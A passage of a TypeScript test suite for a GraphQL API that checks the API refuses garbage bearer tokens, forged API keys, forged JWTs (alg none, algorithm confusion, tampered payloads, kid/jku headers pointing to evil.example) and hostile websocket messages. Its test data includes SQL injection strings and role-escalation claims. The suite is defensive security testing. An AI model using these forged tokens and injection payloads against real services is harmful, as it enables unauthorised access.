      expectRefused(res, 200, "BAD_USER_INPUT");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("garbage bearer tokens and forged API keys", () => {
  let refused: Res;
  let revoked: string;
  let deactivated: string;

  beforeAll(async () => {
    refused = await gql(app, VIEWER, undefined, `pk_${"A".repeat(43)}`);
    const { createApiKey } = await app.ok(`mutation { createApiKey(name: "to revoke") { id key } }`, {}, other.token);
    await app.ok("mutation($id: UUID!) { revokeApiKey(id: $id) { id } }", { id: createApiKey.id }, other.token);
    revoked = createApiKey.key;
    const victim = await app.makeUser(Role.MEMBER, "Deactivated");
    await app.ok("mutation($id: UUID!) { deactivateUser(id: $id) { id } }", { id: victim.user.id }, admin.token);
    deactivated = victim.token;
  });

  const flip = (key: string) => key.slice(0, -1) + (key.endsWith("A") ? "B" : "A");

  it.each([
    ["Bearer without a token", () => "Bearer"],
    ["Bearer and spaces", () => "Bearer      "],
    ["a Basic credential", () => "Basic dXNlcjpwYXNzd29yZA=="],
    ["a key without the Bearer scheme", () => member.token],
    ["another scheme", () => `Token ${member.token}`],
    ["two tokens", () => `Bearer ${member.token} ${member.token}`],
    ["an unknown key of the right shape", () => `Bearer pk_${"A".repeat(43)}`],
    ["a real key with its last character changed", () => `Bearer ${flip(admin.token)}`],
    ["a real key with a character appended", () => `Bearer ${admin.token}x`],
    ["a real key's prefix with a forged rest", () => `Bearer ${admin.token.slice(0, 11)}${"z".repeat(35)}`],
    ["the stored hash of a real key", () => `Bearer ${createHash("sha256").update(admin.token).digest("hex")}`],
    ["SQL in the key", () => `Bearer pk_'OR'1'='1'--${"A".repeat(26)}`],
    ["a key of 8000 characters", () => `Bearer pk_${"A".repeat(8000)}`],
    ["a JWT while JWTs are not configured", () => `Bearer ${b64('{"alg":"HS256"}')}.${b64('{"sub":"admin"}')}.${b64("sig")}`],
    ["a revoked key", () => `Bearer ${revoked}`],
    ["a deactivated user's key", () => `Bearer ${deactivated}`],
  ])("refuses %s with 401 UNAUTHENTICATED, like any unknown key", (_case, authorization) =>
    leavesNoTrace(app, member, async () => {
      const res = await send(app, {
        headers: { ...JSON_HEADERS, authorization: authorization() },
        body: JSON.stringify({ query: `mutation { createConversation(input: { title: "forged" }) { id } }` }),
      });
      expectRefused(res, 401, "UNAUTHENTICATED");
      expect(res.json).toEqual(refused.json);
    }),
  );

  it("refuses even an introspection-only query with a garbage token", () =>
    leavesNoTrace(app, member, async () => {
      expectRefused(await gql(app, "{ __schema { queryType { name } } }", undefined, "garbage"), 401, "UNAUTHENTICATED");
    }),
  );
});

// ---------------------------------------------------------------------------------------------------------

describe("forged JWTs", () => {
  const SECRET = "hostile-test-jwt-secret-0123456789abcdef";
  const ISSUER = "https://idp.example.test/";
  const AUDIENCE = "parley-api";
  const secretKey = new TextEncoder().encode(SECRET);
  const now = () => Math.floor(Date.now() / 1000);
  let jwtApp: TestApp;
  let jwtUser: TestUser;
  let refused: Res;
  let subjects = 0;

  beforeAll(async () => {
    jwtApp = await createTestApp({ JWT_SECRET: SECRET, JWT_ISSUER: ISSUER, JWT_AUDIENCE: AUDIENCE });
    jwtUser = await jwtApp.makeUser(Role.MEMBER);
    await jwtApp.makeUser(Role.ADMIN);
    refused = await gql(jwtApp, VIEWER, undefined, `pk_${"A".repeat(43)}`);
  });
  afterAll(() => jwtApp?.dispose());

  interface Options {
    alg?: string;
    key?: Uint8Array;
    iss?: string;
    aud?: string;
    exp?: number | null;
    nbf?: number;
    sub?: string | null;
    header?: Record<string, unknown>;
  }
  async function sign(claims: Record<string, unknown> = {}, o: Options = {}): Promise<string> {
    const jwt = new SignJWT(claims)
      .setProtectedHeader({ alg: o.alg ?? "HS256", typ: "JWT", ...o.header })
      .setIssuedAt()
      .setIssuer(o.iss ?? ISSUER)
      .setAudience(o.aud ?? AUDIENCE);
    if (o.sub !== null) jwt.setSubject(o.sub ?? `hostile|${++subjects}`);
    if (o.exp !== null) jwt.setExpirationTime(o.exp ?? now() + 600);
    if (o.nbf !== undefined) jwt.setNotBefore(o.nbf);
    return jwt.sign(o.key ?? secretKey);
  }
  /** A token signed by hand with the real secret, under any header and payload text. */
  function handSigned(header: Record<string, unknown>, payload: string): string {
    const input = `${b64(JSON.stringify(header))}.${b64(payload)}`;
    return `${input}.${createHmac("sha256", SECRET).update(input).digest("base64url")}`;
  }
  const claims = () => JSON.stringify({ sub: `hand|${++subjects}`, iss: ISSUER, aud: AUDIENCE, exp: now() + 600, iat: now() });

  it.each([
    ["alg none", async () => new UnsecuredJWT({ sub: "admin" }).setIssuer(ISSUER).setAudience(AUDIENCE).setExpirationTime(now() + 600).encode()],
    ["alg none with a signature part", async () => `${b64('{"alg":"none","typ":"JWT"}')}.${b64(claims())}.AAAA`],
    ["alg none signed with the real secret", async () => handSigned({ alg: "none", typ: "JWT" }, claims())],
    ["RS256 in the header but an HMAC of the secret (algorithm confusion)", async () => handSigned({ alg: "RS256", typ: "JWT" }, claims())],
    ["HS512 with the real secret (only HS256 is accepted)", () => sign({}, { alg: "HS512" })],
    ["a wrong secret", () => sign({}, { key: new TextEncoder().encode("another-secret-of-enough-length-0123456789") })],
    ["an expired token", () => sign({}, { exp: now() - 3600 })],
    ["a token not valid yet", () => sign({}, { nbf: now() + 3600 })],
    ["a wrong audience", () => sign({}, { aud: "someone-else" })],
    ["a wrong issuer", () => sign({}, { iss: "https://evil.example/" })],
    ["no subject", () => sign({}, { sub: null })],
    ["no expiry", () => sign({}, { exp: null })],
    ["a tampered payload", async () => {
      const [header, , signature] = (await sign({ name: "me" })).split(".");
      return `${header}.${b64(JSON.stringify({ sub: "admin", iss: ISSUER, aud: AUDIENCE, exp: now() + 600 }))}.${signature}`;
    }],
    ["a stripped signature", async () => (await sign()).split(".").slice(0, 2).join(".") + "."],
    ["a payload that is not JSON, correctly signed", async () => handSigned({ alg: "HS256", typ: "JWT" }, "'; drop table users; --")],
    ["an unknown critical header", async () => handSigned({ alg: "HS256", typ: "JWT", crit: ["exp-v2"], "exp-v2": 1 }, claims())],
    ["kid and jku headers pointing elsewhere, wrongly signed", () =>
      sign({}, { key: new TextEncoder().encode("attacker-controlled-key-0123456789abcdef"), header: { kid: "../../dev/null' or '1'='1", jku: "https://evil.example/jwks" } })],
  ])("refuses %s with 401 UNAUTHENTICATED, like any unknown key", (_case, token) =>
    leavesNoTrace(jwtApp, jwtUser, async () => {
      const t = await token();
      const res = await send(jwtApp, {
        headers: { ...JSON_HEADERS, authorization: `Bearer ${t}` },
        body: JSON.stringify({ query: `mutation { createConversation(input: { title: "jwt" }) { id } }` }),
      });
      expectRefused(res, 401, "UNAUTHENTICATED");
      expect(res.json).toEqual(refused.json);
    }),
  );

  it("closes a websocket whose connection_init carries a forged JWT with 4403", () =>
    leavesNoTrace(jwtApp, jwtUser, async () => {
      const session = openWs(jwtApp);
      await session.opened;
      session.send({ type: "connection_init", payload: { authorization: `Bearer ${await sign({}, { exp: now() - 3600 })}` } });
      expect((await session.closed).code).toBe(4403);
    }),
  );

  it("takes the role from the database, never from a validly signed token's claims, and stores hostile claims as they are", async () => {
    const sub = `'; drop table users; -- ${++subjects}`;
    const name = `","role":"ADMIN","x":"`;
    const token = await sign({ role: "ADMIN", roles: ["admin"], is_admin: true, name }, { sub });
    const { viewer } = await jwtApp.ok("{ viewer { role displayName externalId } }", {}, token);
    expect(viewer).toEqual({ role: "MEMBER", displayName: name, externalId: sub });
    expectRefused(await gql(jwtApp, "{ users { totalCount } }", undefined, token), 200, "FORBIDDEN");
    await expectTablesExist(jwtApp);
  });
});

// ---------------------------------------------------------------------------------------------------------

describe("websockets", () => {
  it("closes the socket with 1009 for a subscribe message over MAX_BODY_BYTES, and keeps serving", () =>
    leavesNoTrace(app, member, async () => {
      const session = await wsConnect(app, member.token);
      session.send({
        id: "1",
        type: "subscribe",
        payload: { query: `mutation($t: String) { createConversation(input: { title: $t }) { id } }`, variables: { t: "x".repeat(LIMIT) } },
      });
      expect((await session.closed).code).toBe(1009);
      // Another socket still works.
      const { results } = await wsRun(app, member.token, "{ viewer { id } }");
      expect(results).toEqual([{ data: { viewer: { id: member.user.id } } }]);
    }),
  );

  it("closes the socket with 1009 for an oversized connection_init, before any authentication", () =>
    leavesNoTrace(app, member, async () => {
      const session = openWs(app);
      await session.opened;
      session.send({ type: "connection_init", payload: { authorization: `Bearer ${member.token}`, pad: "x".repeat(LIMIT) } });
      expect((await session.closed).code).toBe(1009);
    }),
  );

  it.each([
    ["a message that is not JSON", async (s: WsSession) => s.send("{not json"), 4400],
    ["a message of an unknown type", async (s: WsSession) => s.send({ type: "drop_tables" }), 4400],
    ["a subscribe before connection_init", async (s: WsSession) => s.send({ id: "1", type: "subscribe", payload: { query: VIEWER } }), 4401],
    ["a second connection_init", async (s: WsSession) => {
      s.send({ type: "connection_init", payload: { authorization: `Bearer ${member.token}` } });
      expect(await s.next()).toEqual({ type: "connection_ack" });
      s.send({ type: "connection_init", payload: { authorization: `Bearer ${member.token}` } });
    }, 4429],
    ["a garbage token in connection_init", async (s: WsSession) => s.send({ type: "connection_init", payload: { authorization: "Bearer '; drop table api_keys; --" } }), 4403],
    ["a forged API key in connection_init", async (s: WsSession) => s.send({ type: "connection_init", payload: { authorization: `Bearer pk_${"B".repeat(43)}` } }), 4403],
    ["a connection_init payload that is not an object", async (s: WsSession) => s.send({ type: "connection_init", payload: "Bearer x" }), 4400],
  ])("closes the socket for %s", (_case, act, code) =>
    leavesNoTrace(app, member, async () => {
      const session = openWs(app);
      await session.opened;
      await act(session);
      expect((await session.closed).code).toBe(code);
    }),
  );

  // Over graphql-ws the same errors must carry the same codes as over HTTP, and hide the same internals.
  it.each([
    ["a syntax error", "{ viewer { ", undefined, "GRAPHQL_PARSE_FAILED"],
    ["an unknown field", "{ viewer { nope } }", undefined, "GRAPHQL_VALIDATION_FAILED"],
    ["a malformed UUID variable", "query($id: UUID!) { conversation(id: $id) { id } }", { id: "'; drop table users; --" }, "BAD_USER_INPUT"],
    ["a too-deep query", deepQuery(13), { id: NIL_UUID }, "QUERY_TOO_DEEP"],
    ["an alias bomb", aliasBomb(60), undefined, "QUERY_TOO_COMPLEX"],
    ["a NUL in requestId", `mutation($r: String) { addMessage(input: { conversationId: "CID", content: "x", requestId: $r }) { id } }`, { r: "a\u0000b" }, "BAD_USER_INPUT"],
    ["a UUID with a stray brace", `mutation($c: UUID!) { addMessage(input: { conversationId: $c, content: "x" }) { id } }`, { c: "CID}" }, "BAD_USER_INPUT"],
  ])("answers %s with its code and no internals", (_case, query, variables, code) =>
    leavesNoTrace(app, member, async () => {
      const vars = variables && JSON.parse(JSON.stringify(variables).replace("CID", conversationId));
      const { results, error, raw } = await wsRun(app, member.token, query.replace("CID", conversationId), vars);
      const errors = error ?? results[0]?.errors;
      expectNoLeak(raw, stringsIn(vars));
      expect(errors?.[0]?.extensions?.code).toBe(code);
      expect(results.every((result) => result.data == null)).toBe(true);
    }),
  );
});
